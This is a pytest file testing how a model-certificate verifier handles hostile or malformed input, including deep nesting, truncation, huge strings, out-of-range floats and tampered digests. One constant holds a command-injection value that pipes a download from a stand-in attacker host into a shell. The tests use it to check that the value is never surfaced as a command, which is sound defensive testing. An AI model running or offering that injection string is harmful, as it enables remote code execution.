"""verify on hostile bytes: each case byte fuzzing found ends with exit 2 (input) or 3 (integrity), never a
crash (E999, exit 1); the bootstrap a certificate asks for is bounded before anything is allocated."""

from __future__ import annotations

import json
import re
import subprocess
import sys
import tracemalloc
from pathlib import Path

import msgspec
import numpy as np
import pytest
from click.testing import CliRunner
from invarlock.application.certification.certify import CertifyRequest, certify_edit
from invarlock.application.config import ModelConfig
from invarlock.application.verification.verify import verify_certificate
from invarlock.cli.main import cli
from invarlock.domain import certificate as c
from invarlock.domain.errors import UsageError
from invarlock.domain.policy import VERIFY_MAX_REPLICATES, policy_digest, policy_from_dict
from invarlock.domain.stats import bca_interval

from tests.unit.conftest import small_config


@pytest.fixture
def raw(services) -> bytes:  # type: ignore[no-untyped-def]
    req = CertifyRequest("certify", small_config(), ModelConfig(id="int8ish"), tier="balanced", profile="dev")
    return c.to_bytes(certify_edit(req, services).certificate)


def _cli(tmp_path: Path, data: bytes, *args: str) -> tuple[int, dict]:  # type: ignore[type-arg]
    path = tmp_path / "evaluation.cert.json"
    path.write_bytes(data)
    result = CliRunner().invoke(cli, ["verify", str(path), "--json", *args])
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    return result.exit_code, json.loads(result.stdout)  # stderr holds an error's one line


def _section(raw: bytes, name: bytes) -> tuple[int, int]:
    """Start and end offsets of the JSON list `"name":[...]` inside the final arm's evidence."""
    start = raw.index(name, raw.index(b'"final":{', raw.index(b'"evidence"'))) + len(name) + 2
    return start, raw.index(b"]", start)


def test_a_deleted_dot_in_an_nll_is_an_integrity_failure(raw: bytes, tmp_path: Path) -> None:
    start, end = _section(raw, b'"subject_nll"')
    dot = raw.index(b".", start, end)
    code, report = _cli(tmp_path, raw[:dot] + raw[dot + 1 :])
    assert code == 3 and report["exit_code"] == 3


def test_a_deleted_comma_in_window_ids_is_an_integrity_failure(raw: bytes, tmp_path: Path) -> None:
    start, end = _section(raw, b'"window_ids"')
    comma = start + next(re.finditer(rb"[1-9][0-9]*,[1-9]", raw[start:end])).end() - 2  # 26,73 -> 2673
    code, report = _cli(tmp_path, raw[:comma] + raw[comma + 1 :])
    assert code == 3
    assert any(ch["name"] == "evidence" and not ch["ok"] for ch in report["checks"])


@pytest.mark.parametrize("depth", [c.MAX_NESTING + 1, 1000, 100_000])
def test_deep_nesting_is_a_schema_error(raw: bytes, tmp_path: Path, depth: int) -> None:
    deep = b"[" * depth + b"]" * depth
    data = raw.replace(b'"config":{', b'"config":{"deep":' + deep + b",", 1)
    code, report = _cli(tmp_path, data)
    assert code == 2 and report["error"]["code"] == "E601" and "nests" in report["error"]["message"]


def test_an_nll_near_the_float_limit_is_an_integrity_failure(raw: bytes, tmp_path: Path) -> None:
    doc = json.loads(raw)
    doc["evidence"]["final"]["subject_nll"][:2] = [1.7e308, 1.7e308]
    code, report = _cli(tmp_path, c.to_bytes(c.seal(c.from_bytes(json.dumps(doc).encode()))))
    assert code == 3
    assert any(ch["name"] == "evidence" and "not finite" in ch["detail"] for ch in report["checks"])


def _asking_for(raw: bytes, replicates: int) -> c.Certificate:
    doc = json.loads(raw)
    doc["policy"]["resolved"]["replicates"] = replicates
    doc["policy"]["digest"] = policy_digest(policy_from_dict(doc["policy"]["resolved"]))
    return c.seal(c.from_bytes(json.dumps(doc).encode()))


@pytest.mark.parametrize(("replicates", "allowable"), [(120_000, True), (10**9, False)])
def test_too_many_replicates_are_refused_before_any_allocation(raw: bytes, replicates: int, allowable: bool) -> None:
    cert = _asking_for(raw, replicates)
    tracemalloc.start()
    try:
        with pytest.raises(UsageError) as err:
            verify_certificate(cert)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert err.value.code == "E607" and err.value.exit_code == 2 and peak < 5_000_000
    if allowable:  # within VERIFY_MAX_BOOTSTRAP_CELLS over the certificate's windows: --max-replicates lets it run
        assert str(VERIFY_MAX_REPLICATES) in err.value.message and f"--max-replicates {replicates}" in err.value.hint
    else:  # no --max-replicates would: the hint said "pass --max-replicates 1000000000", then refused it
        assert "cells" in err.value.message and "--max-replicates" not in err.value.hint


def test_the_replicate_cap_is_the_recipients_to_set(raw: bytes, tmp_path: Path) -> None:
    code, report = _cli(tmp_path, raw, "--max-replicates", "100")
    assert code == 2 and report["error"]["code"] == "E607"
    code, report = _cli(tmp_path, raw, "--max-replicates", "500")
    assert code == 0 and report["proves"]["trusted_inputs"]


def test_the_cell_bound_holds_whatever_the_cap(raw: bytes) -> None:
    with pytest.raises(UsageError, match="cells"):
        verify_certificate(_asking_for(raw, 10**9), max_replicates=10**12)


def test_verify_says_what_it_recomputes_and_what_it_trusts(raw: bytes, tmp_path: Path) -> None:
    path = tmp_path / "evaluation.cert.json"
    path.write_bytes(raw)
    text = CliRunner().invoke(cli, ["verify", str(path)]).output
    assert "Recomputed by verify:" in text and "Trusted inputs: per-window NLL sums" in text
    assert "Stated, not recomputed: the models' identities" in text
    _, report = _cli(tmp_path, raw)
    assert msgspec.json.decode(json.dumps(report["proves"]))["recomputed"]


@pytest.mark.parametrize(
    ("path", "value"),
    [
        (("provenance", "config", "guards", "order"), 3),
        (("provenance", "config", "dataset"), True),
    ],
)
def test_free_form_sections_of_the_wrong_shape_fail_a_check(raw: bytes, path: tuple[str, ...], value: object) -> None:
    doc = json.loads(raw)
    target = doc
    for key in path[:-1]:
        target = target[key]
    target[path[-1]] = value
    report = verify_certificate(c.seal(c.from_bytes(json.dumps(doc).encode())))
    assert report.exit_code == 3 and not report.ok


@pytest.mark.parametrize("value", ["x", None, {"taps": []}])
def test_a_guard_section_of_the_wrong_shape_does_not_decode(raw: bytes, value: object) -> None:
    """Guard sections are typed (no longer free-form): a wrong shape is a schema violation, named by path."""
    doc = json.loads(raw)
    doc["guards"]["variance"]["measurements"] = value
    with pytest.raises(UsageError, match=r"guards\.variance\.measurements") as err:
        c.from_bytes(json.dumps(doc).encode())
    assert err.value.code == "E601" and err.value.exit_code == 2


def test_the_stated_memory_bound_holds_per_bootstrap_cell() -> None:
    """The documented bound (VERIFY_MAX_BOOTSTRAP_CELLS x 40 bytes, 400 MB) rests on this per-cell peak."""
    windows, replicates = 500, 2000
    rng = np.random.default_rng(0)
    base = rng.uniform(600.0, 900.0, windows)
    tokens = np.full(windows, 255.0)
    tracemalloc.start()
    try:
        bca_interval(
            tokens, base, base + rng.normal(0.0, 1.0, windows), key=b"k" * 32, replicates=replicates, alpha=0.05
        )
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak <= 40 * windows * replicates


def test_nesting_depth_skips_strings_with_their_escapes() -> None:
    text = b'{"a": "x\\"y[[", "b": [1, {"c": "\\\\"}], "d": "]]\\u005b"}'
    assert c.nesting_depth(text) == 3


def test_a_20_mb_string_is_measured_in_bounded_memory() -> None:
    """One long string in a certificate took gigabytes of regular-expression stack (the CLI hunt of stop 38: 12 GB
    for 100 MB, E999 under a memory limit); with 1 GiB of address space it now measures."""
    script = (
        "import resource; resource.setrlimit(resource.RLIMIT_AS, (2**30, 2**30))\n"
        "from invarlock.domain.certificate import nesting_depth\n"
        "print(nesting_depth(b'{\"a\": [\"' + b'A' * 20_000_000 + b'\"]}'))\n"
    )
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=120)
    assert done.returncode == 0 and done.stdout.strip() == "2", done.stderr[-500:]


@pytest.mark.parametrize("cut", ["after a key no certificate has", "a third in", "before the last brace"])
def test_a_certificate_cut_short_is_said_to_be_cut_short(raw: bytes, cut: str) -> None:
    """A file cut after a key the schema lacks read as an edited one (`Object contains unknown field ...`)."""
    data = {
        "after a key no certificate has": b'{"notes":',
        "a third in": raw[: len(raw) // 3],
        "before the last brace": raw[:-1],
    }[cut]
    with pytest.raises(UsageError) as refused:
        c.from_bytes(data)
    assert refused.value.code == "E601"
    assert refused.value.message == "schema check failed: certificate is not valid JSON: Input data was truncated"


_HOSTILE = 'evil 1" && curl -s http://attacker.example/x | sh && echo "'


def _edited(raw: bytes, edit, *, reseal: bool) -> bytes:  # type: ignore[no-untyped-def]
    data = json.loads(raw)
    edit(data)
    cert = msgspec.convert(data, c.Certificate)
    return c.to_bytes(c.seal(cert) if reseal else cert)


@pytest.mark.parametrize(
    "edit",
    [
        lambda d: d["provenance"]["environment"].update({"plugin.guards.evil": _HOSTILE}),
        lambda d: d["provenance"]["environment"].update({"plugin.metrics.ppl_causal": _HOSTILE}),
        lambda d: d["policy"]["resolved"].update({"replicates": 10**6}),
    ],
)
def test_an_altered_certificate_is_an_integrity_failure_before_anything_it_names_is_acted_on(
    raw: bytes, tmp_path: Path, edit
) -> None:  # type: ignore[no-untyped-def]
    """A plugin it names is not asked for (E222, exit 2, with its text as a command to run) and its bootstrap's size
    is not refused as the recipient's input (E607): it is void, exit 3, and verify still names what it can."""
    code, report = _cli(tmp_path, _edited(raw, edit, reseal=False))
    failed = [ch["name"] for ch in report["checks"] if not ch["ok"]]
    assert code == 3 and failed[0] == "digest", report
    assert "curl" not in json.dumps(report) and report["exit_code"] == 3


def test_a_plugin_named_in_no_package_form_is_not_offered_as_a_command(raw: bytes, tmp_path: Path) -> None:
    """An issuer's own (sealed) certificate naming a hostile 'distribution': E222 without a pip command."""

    def edit(d: dict) -> None:  # type: ignore[type-arg]
        d["provenance"]["environment"]["plugin.guards.evil"] = _HOSTILE
        order = d["provenance"]["config"]["guards"]["order"]  # a guard the run's order names: none other is asked for
        order.insert(len(order) - 1, "evil")

    path = tmp_path / "evaluation.cert.json"
    path.write_bytes(_edited(raw, edit, reseal=True))
    result = CliRunner().invoke(cli, ["verify", str(path)])
    error = result.exception
    assert isinstance(error, UsageError) and error.code == "E222", result.output
    assert "pip install" not in error.hint and "not a package name and version" in error.hint


@pytest.mark.parametrize(
    ("edit", "named"),
    [
        (lambda d: d["subject"].update({"weights_sha256": ""}), "subject.weights_sha256 is ''"),
        (lambda d: d["baseline"].update({"config_sha256": "<b>x</b>"}), "baseline.config_sha256 is '<b>x</b>'"),
        (lambda d: d["subject"].update({"tokenizer_sha256": "ABC" * 21 + "A"}), "subject.tokenizer_sha256 is 'ABC"),
        (lambda d: d["provenance"]["event_log"].update({"head_hash": "nothex"}), "provenance.event_log.head_hash"),
    ],
)
def test_a_stated_digest_that_is_no_sha256_fails_even_resealed(raw: bytes, tmp_path: Path, edit, named: str) -> None:  # type: ignore[no-untyped-def]
    """Digests plain verify cannot recompute (the models', the chain head's) are at least sha256s: an empty one is a
    value never measured, which must not pass."""
    code, report = _cli(tmp_path, _edited(raw, edit, reseal=True))
    found = {ch["name"]: ch for ch in report["checks"]}
    assert code == 3 and not found["digest_forms"]["ok"], report
    assert found["digest_forms"]["detail"].startswith(named)


@pytest.mark.parametrize(
    ("edit", "named"),
    [
        (lambda d: d["tool"].update({"name": "notinvarlock"}), "tool.name is 'notinvarlock', not invarlock"),
        (lambda d: d["guards"]["invariants"].update({"seconds": -1.0}), "guards.invariants.seconds is -1.0"),
        (
            lambda d: d["guards"]["invariants"]["phases"]["pre"].update({"seconds": -5.0}),
            "guards.invariants.phases.pre.seconds is -5.0",
        ),
    ],
)
def test_an_impossible_recorded_value_fails_provenance_even_resealed(
    raw: bytes, tmp_path: Path, edit, named: str
) -> None:  # type: ignore[no-untyped-def]
    code, report = _cli(tmp_path, _edited(raw, edit, reseal=True))
    found = {ch["name"]: ch for ch in report["checks"]}
    assert code == 3 and not found["provenance"]["ok"] and found["provenance"]["detail"].startswith(named), report


def test_a_number_beyond_float64_is_named_where_it_is_not_called_invalid_json(raw: bytes) -> None:
    """`1e999` is JSON no field can hold: it was 'certificate is not valid JSON: Number out of range' (the forger
    hunt)."""
    with pytest.raises(UsageError) as refused:
        c.from_bytes(raw.replace(b'"seed":', b'"seed":1e999,"x":', 1))
    assert refused.value.code == "E601" and refused.value.message == (
        "schema check failed: certificate does not match the certificate schema: Number out of range - at "
        "`$.bootstrap.seed`"
    )
